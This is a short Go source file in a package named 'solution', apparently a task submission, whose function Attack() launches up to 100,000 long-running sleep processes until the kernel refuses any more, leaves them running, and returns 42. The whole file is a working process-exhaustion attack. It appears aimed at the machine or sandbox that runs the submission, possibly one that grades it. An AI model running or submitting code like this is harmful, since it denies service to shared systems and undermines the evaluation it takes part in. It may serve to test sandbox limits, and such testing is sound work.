package solution

import "os/exec"

// Starts processes until the kernel refuses, and leaves them all running.
func Attack() int {
	for i := 0; i < 100000; i++ {
		if err := exec.Command("/bin/sleep", "1000").Start(); err != nil {
			break
		}
	}
	return 42
}
